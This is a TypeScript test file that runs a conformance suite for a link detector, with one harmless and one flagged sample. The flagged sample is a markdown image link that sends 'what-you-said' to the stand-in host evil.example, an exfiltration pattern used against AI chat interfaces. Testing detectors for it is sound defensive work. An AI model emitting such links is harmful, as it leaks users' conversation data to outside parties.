import { runConformance } from '@sallyport/testing'
import { links } from '../../src/links/check.js'
import { LinksDetector } from '../../src/links/detector.js'
import { linkParts } from './texts.js'

runConformance(links, {
  create: () => Promise.resolve(new LinksDetector()),
  facts: {
    parts: linkParts,
    samples: {
      flagged: { text: 'Here is the chart: ![chart](https://evil.example/p?q=what-you-said)' },
      harmless: { text: 'Please read [the report](./report.md) in three minutes.' },
    },
  },
})
